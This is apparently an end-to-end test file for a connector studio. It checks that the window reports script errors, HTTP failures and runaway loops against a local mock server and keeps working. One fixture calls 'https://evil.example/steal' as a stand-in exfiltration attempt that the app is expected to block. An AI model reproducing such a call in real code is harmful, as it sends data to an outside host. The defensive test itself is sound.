// Everything that can be wrong with what a person types or a server answers, in the real window: each says what
// happened and what to do, and the window goes on.

import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import test from 'node:test';

import { Key, joinery, withStudio } from './driver.mjs';

/** What a script does, and what the window must say of it. */
const SCRIPTS = [
	['syntax', 'let user = http.get("/json"', ['is missing here to separate the arguments', 'syntax.rhai:7']],
	['unknown_name', 'usr.name', ['usr']],
	['unknown_function', 'fetch("/json")', ['fetch']],
	['other_host', 'http.get("https://evil.example/steal")', ['This connector may not call evil.example', 'Add "evil.example" to `hosts`']],
	['status_401', 'http.get("/401")', ['refused these credentials', 'Edit the connection']],
	['status_403', 'http.get("/403")', ['lack the permission or scope']],
	['status_404', 'http.get("/404")', ['Check the id, and whether this is the org you mean']],
	['status_429', 'http.request("GET", "/429").no_retry().send().body', ['Wait for the reset, then run again']],
	['not_json', 'http.get("/text")', ['Succeeded', 'plain words']],
	['rejected', 'reject("no_such_user", "There is no such user.", #{ login: "ada" })', ['There is no such user.', 'no_such_user']],
	['endless', 'let n = 0; loop { n += 1; }', ['Stopped after 10,000,000 steps at']],
	['deep', 'down(1)', ['64']],
	['giant', 'let text = "x"; loop { text += text; }', ['a value grew too large']],
	['no_field', 'input.nothing.deeper', ['nothing']]
];

/** What is sent, and what the window must say of it. */
const SENDS = [
	['http://nowhere.invalid/', ['Cannot find host `nowhere.invalid`']],
	['http://127.0.0.1:9/', ['refused']],
	['https://{mock}/json', ['does not speak TLS']],
	['http://{mock}/401', ['401 Unauthorized']],
	['http://{mock}/429', ['429 Too Many Requests']],
	['http://{mock}/half', ['200 OK', '"half"']],
	['http://{mock}/not-utf8', ['200 OK', 'caf']],
	['http://{mock}/circle', ['redirect']],
	['http://{mock}/{{missing}}', ['missing']],
	['nonsense://x', ['nonsense']]
];

test('whatever is wrong is said, and the window goes on', async () => {
	const server = await startServer();
	const mock = `127.0.0.1:${server.address().port}`;
	try {
		await withStudio(async (studio) => {
			const folder = join(studio.home, 'wrong');
			joinery(studio, ['new', folder, '--template', 'rest']);
			const manifest = `format = 1\nid = "wrong"\ntitle = "Wrong"\nversion = "0.1.0"\n\n[http]\nbase_url = "http://${mock}"\n\n[[auth]]\nid = "none"\nlabel = "No sign-in"\nkind = "none"\n`;
			writeFileSync(join(folder, 'connector.toml'), manifest);
			for (const [name, body] of SCRIPTS) {
				writeFileSync(join(folder, 'actions', `${name}.rhai`), `//! ${name}\n\nfn down(n) { down(n + 1) + 1 }\n\nfn execute(connection, input) {\n    ${body}\n}\n`);
			}
			writeFileSync(
				join(folder, 'actions', 'asks.rhai'),
				'//! Asks\n\nfn input_fields(connection, config) { [field("user", #{ required: true, label: "User" })] }\n\nfn execute(connection, input) { input.user }\n'
			);
			joinery(studio, ['connection', 'add', 'mock', folder, '--auth', 'none']);

			await studio.press(Key.Control, 'o');
			await fill(studio, 'Folder or package', folder);
			await studio.press(Key.Enter);
			await studio.find('treeitem', 'get_item');

			for (const [name, , said] of SCRIPTS) {
				await openFile(studio, name);
				await studio.press(Key.Control, 'r');
				for (const text of said) await studio.see(text);
				await studio.picture(`wrong-script-${name}`);
			}
			await openFile(studio, 'asks');
			await studio.press(Key.Control, 'r');
			await studio.see('user');
			await studio.picture('wrong-input');

			for (const [index, [url, said]] of SENDS.entries()) {
				await studio.press(Key.Control, 't');
				await studio.until('the URL field has the focus', 'return document.activeElement?.getAttribute("aria-label") === "URL"');
				await studio.type(url.replace('{mock}', mock));
				await studio.press(Key.Control, Key.Enter);
				for (const text of said) await studio.see(text);
				await studio.picture(`wrong-send-${index}`);
			}

			// After all that an ordinary run still works.
			writeFileSync(join(folder, 'actions', 'fine.rhai'), '//! Fine\n\nfn execute(connection, input) { http.get("/json").name }\n');
			await studio.find('treeitem', 'fine');
			await openFile(studio, 'fine');
			await studio.press(Key.Control, 'r');
			await studio.see('"Ada"');
		});
	} finally {
		server.close();
		server.closeAllConnections();
	}
});

async function openFile(studio, name) {
	await studio.press(Key.Control, 'k');
	await studio.find('combobox', 'Search or run a command');
	await studio.type(name);
	await studio.until('it is found', 'return document.querySelector("#palette-list [role=option]")?.innerText.includes(arguments[0])', name);
	await studio.press(Key.Enter);
	await studio.until('it is open', 'return document.querySelector(".cm-content[aria-label=Script]")?.innerText.includes("//! ")');
}

async function fill(studio, name, text) {
	const field = await studio.find('textbox', name);
	await studio.focus(field);
	await studio.run('arguments[0].select?.()', field);
	await studio.type(text);
}

/** Answers as a bad day would. */
async function startServer() {
	const json = { 'content-type': 'application/json' };
	const error = (code, summary) => JSON.stringify({ errorCode: code, errorSummary: summary, errorCauses: [] });
	const answers = {
		'/json': [200, json, '{"name":"Ada"}'],
		'/401': [401, json, error('E0000011', 'Invalid token provided')],
		'/403': [403, json, error('E0000006', 'You do not have permission to perform the requested action')],
		'/404': [404, json, error('E0000007', 'Not found: Resource not found: nobody (User)')],
		'/429': [429, { ...json, 'retry-after': '30' }, error('E0000047', 'API call exceeded rate limit due to too many requests.')],
		'/text': [200, { 'content-type': 'text/plain' }, 'plain words'],
		'/half': [200, json, '{"half": "of it'],
		'/not-utf8': [200, { 'content-type': 'text/plain; charset=utf-8' }, Buffer.from([0x63, 0x61, 0x66, 0xe9])],
		'/circle': [302, { location: '/circle' }, '']
	};
	const server = createServer((request, response) => {
		const [status, headers, body] = answers[request.url] ?? [404, json, '{}'];
		response.writeHead(status, headers).end(body);
	});
	await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
	return server;
}
